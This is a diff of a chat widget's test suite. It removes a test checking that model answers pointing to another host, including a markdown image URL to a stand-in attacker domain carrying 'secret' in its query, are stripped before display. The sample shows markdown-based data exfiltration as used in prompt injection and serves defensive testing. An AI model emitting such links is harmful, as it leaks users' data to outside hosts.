@@ -178,15 +178,6 @@ describe('attempts to change the instructions', () => {
 		expect(messages[0]?.content).not.toContain(question);
 		expect(messages[1]?.content).toBe(question);
 	});
-
-	it('an answer contains no URL of another host', async () => {
-		const { provider, ask } = await startTestChat();
-		const text =
-			'See ![chart](https://evil.example/?q=secret) [here](https://evil.example/b) or [prices](/ai-solutions-pricing).';
-		provider.behaviour = [{ text }];
-		provider.bytesPerWrite = 3;
-		expect(textOf(await ask('Hi'))).toBe('See here or [prices](/ai-solutions-pricing).');
-	});
 });
 
 it('cancels the request to the provider when the visitor leaves', async () => {
